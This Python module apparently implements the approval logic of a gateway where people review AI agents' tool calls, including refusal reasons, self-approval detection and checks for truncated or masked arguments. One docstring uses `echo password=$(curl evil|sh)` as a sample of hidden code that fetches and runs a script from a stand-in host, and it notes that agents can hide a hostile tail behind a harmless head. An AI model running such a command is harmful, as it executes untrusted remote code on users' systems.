"""The one decision pipeline's words: who is acting, why they may not, and what happened.

Every surface resolves the person acting into an `Actor` (an API token, a web sign-in, a
chat user) and gets back a `Result`. Who may act on a request is answered in one place,
`refusal_for`; what a rule offers (edits, reasons, grants, extensions) is checked in
`gate.policy.offers` and `gate.decisions.grants`; the use cases in `gate.decisions.service` run both
before they write. A refusal is an enum, so the API's error codes and every surface's wording come
from it instead of from matching text.
"""

from __future__ import annotations

import enum
import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass
from functools import lru_cache
from typing import TYPE_CHECKING

from gate import rendering
from gate.base.errors import AlreadyDecided, Conflict, Forbidden, InvalidInput, NotFound
from gate.base.statuses import RequestStatus
from gate.config.settings import ApproverSettings, Settings
from gate.decisions import outcomes
from gate.identity.authmethod import AuthMethod
from gate.text import untrusted

if TYPE_CHECKING:
    from gate.decisions.readmodel import RequestView
    from gate.identity.auth import Principal


class Refusal(enum.Enum):
    """Why a decision or extension was not recorded. The value is the API error code."""

    not_an_approver = "not_an_approver"
    self_approval = "self_approval"
    #: the rule does not offer what was asked (a reason, an edit, a grant); see Result.code
    not_offered = "not_offered"
    #: an extension past the longest deadline the server allows
    deadline_at_limit = "deadline_at_limit"
    #: an approval from a surface that could not show the call's arguments whole
    arguments_not_shown = "arguments_not_shown"
    #: an approval of a call with a masked value the approver has not revealed
    not_revealed = "masked_value_not_revealed"
    #: a later stage's approver acting before an earlier stage was decided (`gate.policy.stages`)
    not_your_turn = "not_your_turn"
    #: a person who decided an earlier stage acting on a later one
    decided_earlier_stage = "decided_earlier_stage"
    #: a vote the stage would not count (the rule's `votes.groups` / `votes.via`)
    vote_not_counted = "vote_not_counted"
    #: an approval of a request without the justification its rule needs to be reviewed
    unreviewable = "unreviewable"
    #: an approval of a step-up rule's call without a fresh single sign-on (`gate.policy.stepup`)
    step_up_required = "step_up_required"
    #: a chat click by a person bound only by email, on a rule with `refuse_email_bound`
    email_bound = "email_bound_identity"

    @property
    def status(self) -> int:
        """The HTTP status the API answers with."""
        return {"not_offered": 422, "deadline_at_limit": 409}.get(self.value, 403)

    def sentence(self) -> str:
        """The reason in words, lower case, for "Not recorded: <sentence>."."""
        return {
            Refusal.not_an_approver: "you are not an approver for this rule",
            Refusal.self_approval: "you asked for this call, so you cannot approve it yourself",
            Refusal.not_offered: "this rule does not offer that",
            Refusal.deadline_at_limit: "the deadline is already at the longest allowed",
            Refusal.arguments_not_shown: (
                "the arguments are too long to show here whole; review and approve in gate"
            ),
            Refusal.not_revealed: (
                "a masked value of the call was not revealed to you; reveal it on the "
                "request page in gate and approve there"
            ),
            Refusal.not_your_turn: (
                "an earlier stage of this request is still waiting; you can decide once it "
                "is your stage's turn"
            ),
            Refusal.decided_earlier_stage: (
                "you decided an earlier stage of this request; each stage needs someone else"
            ),
            Refusal.vote_not_counted: (
                "this stage does not count your vote here (its rule counts only some groups "
                "or surfaces); see the request page for who decides and where"
            ),
            Refusal.unreviewable: (
                "the agent sent no justification, and this rule lets nobody approve a "
                "request without one; reject it, or let it expire"
            ),
            Refusal.step_up_required: (
                "this rule needs an approval made with a fresh single sign-on or a passkey; "
                "approve on the request page in gate"
            ),
            Refusal.email_bound: (
                "this rule does not accept a click from an identity gate knows only by email "
                "address; link your account on the Identities page in gate, or decide on the "
                "request page"
            ),
        }[self]


#: the refusal's words for a call that fit where it was shown but where a mask could hide
#: code no reveal shows (in a key, say): the API (`gate requests show`) shows it raw
MASKED_CODE = (
    "a masked part of the arguments could hide code, so the whole call was not shown; read "
    "the raw arguments with `gate requests show <id>` (or the API) and approve there"
)
#: ... where a mask in text could hide code, on a card (which never reveals)
MASKED_CODE_CARD = (
    "a masked part of the arguments could hide code, so the whole call was not shown here; "
    "reveal it on the request page in gate (or read the raw arguments with `gate requests "
    "show <id>`) and approve there"
)
#: ... where a value under a secret-named key is masked whole, on a card
MASKED_VALUE_CARD = (
    "the {at} masked here: reveal it on the request page in gate and approve there (an "
    "approval counts only once you have seen every masked value)"
)
#: ... on the request page, before the approver revealed every masked value
NOT_REVEALED = (
    "reveal the masked {at} first: an approval counts only once you have seen every value "
    "masked on this page"
)


@dataclass(frozen=True)
class Actor:
    """The person (or token) acting on a request, as any surface resolved them.

    `name` is recorded on votes and the audit trail; `via` names the surface ("api", "web",
    "slack"); `token` is the API token acted with, if any (never the one that asked);
    `bypass_approver_list` is set for admin tokens, which may decide any request but their
    own. `args_chars` is how many characters of a call's rendering the surface showed whole
    (`gate.rendering.shown_chars`); None for the API, which shows them raw. `revealed` holds
    the masked values (JSON pointers, `gate.text.untrusted.masks`) this person revealed on the
    request, on a surface that reveals (the web page); None where nothing is revealed (cards).
    `auth` is how they were authenticated (recorded on the vote; a step-up rule demands
    single sign-on, `gate.policy.stepup`); `groups` are the approver groups their identity provider
    put them in for this sign-in (`[oidc] group_map`).
    """

    name: str
    via: str
    approver: ApproverSettings | None = None
    token: str | None = None
    bypass_approver_list: bool = False
    args_chars: int | None = None
    revealed: frozenset[str] | None = None
    auth: AuthMethod | None = None
    groups: frozenset[str] = frozenset()

    @classmethod
    def of_principal(cls, principal: Principal, via: str = "api") -> Actor:
        """An API caller (an approver or admin token, or the token-less local caller)."""
        return cls(
            name=principal.actor_name,
            via=via,
            approver=principal.approver,
            token=None if principal.anonymous else principal.name,
            bypass_approver_list=principal.role == "admin",
            auth=principal.auth,
        )

    @classmethod
    def of_approver(
        cls,
        approver: ApproverSettings,
        via: str,
        *,
        args_chars: int | None = None,
        revealed: frozenset[str] | None = None,
        auth: AuthMethod | None = None,
        groups: frozenset[str] = frozenset(),
    ) -> Actor:
        """A person signed in to the web console (who `revealed` these masked values), or
        identified by a chat platform (whose card showed `args_chars` characters)."""
        return cls(
            approver.name,
            via,
            approver,
            args_chars=args_chars,
            revealed=revealed,
            auth=auth,
            groups=groups,
        )


@dataclass(frozen=True)
class Result:
    """What a decision or extension did, for any surface to report."""

    outcome: outcomes.Outcome | None
    view: RequestView | None
    refusal: Refusal | None = None
    #: the precise reason for `not_offered` ("not one of this rule's reject reasons: ...")
    detail: str | None = None
    #: the precise API code for `not_offered` ("unknown_reason", "grant_too_long", ...)
    code: str | None = None

    @property
    def changed(self) -> bool:
        """True when something was recorded (a decision, a vote or a new deadline)."""
        if isinstance(self.outcome, outcomes.Acknowledged):
            return not self.outcome.already
        return isinstance(self.outcome, outcomes.Changed | outcomes.Voted | outcomes.Extended)

    def message(self) -> str:
        """One sentence for the person who acted."""
        out = self.outcome
        if self.refusal is not None:
            why = self.detail or self.refusal.sentence()
            return f"Not recorded: {why[0].lower() + why[1:]}." if why else "Not recorded."
        if isinstance(out, outcomes.Missing) or self.view is None:
            return "This request no longer exists."
        if isinstance(out, outcomes.AlreadyFinal):
            return already_final_message(out)
        if isinstance(out, outcomes.AlreadyVoted):
            return f"You already voted to {out.verdict.value} this request."
        if isinstance(out, outcomes.Voted) and out.next_stage is not None:
            return f"Your approval is recorded; {out.next_stage} decides next."
        if isinstance(out, outcomes.Voted) and out.verdict == "reject":
            of = f"{out.rejections} of {out.rejections_required}"
            return f"Your rejection is recorded ({of} needed to reject)."
        if isinstance(out, outcomes.Voted):
            return f"Your approval is recorded ({out.approvals} of {out.required})."
        if isinstance(out, outcomes.Extended):
            return f"Deadline moved to {out.until:%Y-%m-%d %H:%M} UTC."
        if isinstance(out, outcomes.Acknowledged) and out.already:
            return f"{out.by} is already on it (acknowledged {out.at:%Y-%m-%d %H:%M} UTC)."
        if isinstance(out, outcomes.Acknowledged):
            return "Acknowledged: you are on it. Reminders and escalation stop; decide when ready."
        return self.view.outcome_sentence() + "."


def already_final_message(out: outcomes.AlreadyFinal) -> str:
    """ "Already approved by alice at 2026-11-21 10:00:00 UTC."."""
    by = f" by {out.decided_by}" if out.decided_by else ""
    at = f" at {out.decided_at:%Y-%m-%d %H:%M:%S} UTC" if out.decided_at else ""
    return f"Already {out.status.value}{by}{at}."


def already_final(view: RequestView) -> outcomes.AlreadyFinal:
    """The "already decided" outcome for a request that is no longer pending."""
    return outcomes.AlreadyFinal(
        view.id, RequestStatus(view.status), view.decided_by, view.decided_at, view.decided_via
    )


def settled(view: RequestView | None, request_id: str) -> Result | None:
    """The result for a request that is missing or already final; None while it is pending."""
    if view is None:
        return Result(outcomes.Missing(request_id), None)
    if view.is_final:
        return Result(already_final(view), view)
    return None


def refusal_for(settings: Settings, view: RequestView, actor: Actor) -> Refusal | None:
    """Why `actor` may not act on `view`, or None when they may. The one place for it.

    Nobody acts on a call they asked for, under any of their names: the actor's identities
    (gate name, email, every channel id, and the API token they act with) must not meet the
    requester's (the claimed `user_id`, the token that submitted the request, and the
    approver that token belongs to). Then the actor must be one of the request's resolved
    approvers (an empty list: any approver), or in one of the approver groups the rule names
    by the groups their single sign-on conferred, unless an admin token bypasses the list.
    Identities meet in any letter case, Unicode form (NFKC), around spaces and invisible
    characters: an agent that claims `user_id = "Alice@Example.com"` (or `ａｌｉｃｅ`, or
    `ali\u200bce`) asked as alice@example.com / alice (erring towards refusing).
    """
    if asked_it(settings, view, actor) and not may_self_approve(view, actor):
        return Refusal.self_approval
    if view.offers.refuse_email_bound and email_bound(actor):
        return Refusal.email_bound
    allowed = view.approvers
    if allowed and not actor.bypass_approver_list and actor.name not in allowed:
        # ...or in a group the rule names, as their identity provider says (`group_map`)
        if not actor.groups & set(view.offers.approver_groups):
            later = any(actor.name in s.approvers for s in view.offers.stages[view.stage + 1 :])
            return Refusal.not_your_turn if later else Refusal.not_an_approver
    return _stage_refusal(view, actor)


def email_bound(actor: Actor) -> bool:
    """Whether `actor` is a chat click whose person gate knows only by email address."""
    return actor.auth is not None and actor.auth.kind == "chat" and actor.auth.bound_by == "email"


def asked_it(settings: Settings, view: RequestView, actor: Actor) -> bool:
    """Whether `actor` asked for the call, under any of their names (see `refusal_for`)."""
    mine = actor.approver.identities() if actor.approver else {actor.name}
    if actor.auth is not None and actor.auth.kind == "chat" and actor.auth.user_id:
        # the id the click came from, however it was bound (a link, a provider's claim)
        mine = mine | {actor.auth.user_id}
    if actor.token:
        mine = mine | {f"token:{actor.token}"}
    return bool(_folded(mine) & _folded(requester_identities(settings, view)))


def may_self_approve(view: RequestView, actor: Actor) -> bool:
    """Whether the rule lets `actor` decide a call they asked for (`self_approval`: members
    of its groups, by their gate name; a reason is then required and the vote is audited
    as self-approval). Never a token acting as nobody in particular."""
    allowed = view.offers.self_approvers
    return allowed is not None and actor.approver is not None and actor.name in allowed


def _stage_refusal(view: RequestView, actor: Actor) -> Refusal | None:
    """A chain's own refusals: a person decides one stage only, and a stage counts only the
    votes its filter says (refused when cast, so nobody thinks they voted when they did not)."""
    if any(v.approver == actor.name and v.stage < view.stage for v in view.votes):
        return Refusal.decided_earlier_stage
    if not view.current_stage.filter.counts(actor.name, actor.via):
        return Refusal.vote_not_counted
    return None


def approval_refusal(view: RequestView, actor: Actor) -> Result | None:
    """Why `actor` may not approve `view` in any form (as asked, with edits, with a grant),
    or None when they may: their surface must have shown the call's arguments whole.

    A card cut to fit its platform hides the rest of the call, and an agent can put a
    harmless head before a hostile tail; a mask hides what it covers: a value under a
    secret-named key (`primary_key`, `auth`) masked whole, or code shaped like a secret
    (`echo password=$(curl evil|sh)`). A mask that hides one credential token in text hides
    nothing else; any other counts as shown only once this approver revealed it on the
    request page (audited), which cards never do: nobody approves a call they could not read.
    Rejecting needs no such check (it fails closed).
    """
    if actor.args_chars is None:
        return None  # the API shows the arguments raw
    args = view.tool_args
    where = f" ({view.url})" if view.url and actor.revealed is None else ""
    # The call as gate renders it: the text every card shows (`rendering.shown_chars`).
    shown = rendering.shown_chars(view.tool_name, args, watched=view.offers.watched_args)
    if shown > actor.args_chars:
        why = Refusal.arguments_not_shown.sentence() + where
        return _unseen(view, Refusal.arguments_not_shown, why)
    masks = untrusted.masks(args)
    if masks.unrevealable:
        return _unseen(view, Refusal.arguments_not_shown, MASKED_CODE + where)
    unseen = [p for p in masks.to_reveal if actor.revealed is None or p not in actor.revealed]
    if not unseen:
        return None
    if actor.revealed is not None:
        return _unseen(view, Refusal.not_revealed, NOT_REVEALED.format(at=_at(unseen)))
    if masks.code:
        return _unseen(view, Refusal.arguments_not_shown, MASKED_CODE_CARD + where)
    at = _at(unseen) + (" is" if len(unseen) == 1 else " are")
    return _unseen(view, Refusal.not_revealed, MASKED_VALUE_CARD.format(at=at) + where)


def _unseen(view: RequestView, refusal: Refusal, why: str) -> Result:
    return Result(None, view, refusal, why, refusal.value)


def _at(paths: list[str]) -> str:
    """ "value at /password", or "values at /a, /b, /c and 2 more"."""
    shown = ", ".join(paths[:3]) + (f" and {len(paths) - 3} more" if len(paths) > 3 else "")
    return f"value at {shown}" if len(paths) == 1 else f"values at {shown}"


def requester_identities(settings: Settings, view: RequestView) -> set[str]:
    """Every name the requester of `view` goes by (see `_asked_by`)."""
    return _asked_by(settings, view.user_id, view.submitted_by)


def approved_own(
    settings: Settings, voters: Iterable[str], *, user_id: str | None, submitted_by: str | None
) -> bool:
    """Whether any of `voters` (who approved a request: approver names, or admin token
    names) asked for the call `user_id` and `submitted_by` describe, under any of their names.

    What `refusal_for` refuses a decision for; and a grant its approvers made never covers a
    call one of them asked for (`grants.find`): no approval, direct or standing, is one's own.
    """
    theirs: set[str] = set()
    for name in voters:
        person = settings.approver(name)
        theirs |= person.identities() if person is not None else {name, f"token:{name}"}
    return bool(_folded(theirs) & _folded(_asked_by(settings, user_id, submitted_by)))


def _asked_by(settings: Settings, user_id: str | None, submitted_by: str | None) -> set[str]:
    """Every name a requester goes by: the claimed `user_id` and the submitting token.

    A token that submitted counts as `token:<name>`, plus every identity of the approver the
    token belongs to. Token-less local mode has no tokens, so its shared `local` principal is
    nobody's identity: the person at the machine may approve their own agent's calls.
    """
    ids = {user_id} if user_id else set()
    token = settings.token(submitted_by) if submitted_by else None
    if token is not None:
        ids.add(f"token:{token.name}")
        linked = settings.approver(token.approver) if token.approver else None
        if linked is not None:
            ids |= linked.identities()
    return ids


def _folded(ids: set[str]) -> set[str]:
    """Identities as compared: without invisible characters, in NFKC (full-width `ａｌｉｃｅ`,
    composed and decomposed accents alike), case folded, without spaces around."""
    return {_fold(i) for i in ids}


@lru_cache(maxsize=1024)  # a handful of people and agents, folded on every decision
def _fold(identity: str) -> str:
    plain = unicodedata.normalize("NFKC", untrusted.strip_invisible(identity))
    return unicodedata.normalize("NFKC", plain.casefold()).strip()


def raise_for(result: Result) -> RequestView:
    """The API's answer for a result: its view, or the documented error for a refusal."""
    out = result.outcome
    if result.refusal is not None:
        message = result.detail or result.refusal.sentence()
        message = message[0].upper() + message[1:]
        if result.refusal is Refusal.not_offered:
            raise InvalidInput(message, code=result.code or "invalid_input")
        if result.refusal is Refusal.deadline_at_limit:
            raise Conflict(message, code=result.refusal.value)
        raise Forbidden(message, code=result.refusal.value)
    if isinstance(out, outcomes.Missing) or result.view is None:
        request_id = out.request_id if isinstance(out, outcomes.Missing) else "?"
        raise NotFound(f"no request with id {request_id!r}", code="request_not_found")
    if isinstance(out, outcomes.AlreadyFinal):
        raise AlreadyDecided(
            already_final_message(out),
            status=out.status.value,
            decided_by=out.decided_by,
            decided_at=out.decided_at.isoformat() if out.decided_at else None,
            decided_via=out.decided_via,
        )
    if isinstance(out, outcomes.AlreadyVoted):
        raise Conflict(
            f"{out.approver} already voted to {out.verdict.value} this request",
            code="already_voted",
        )
    return result.view
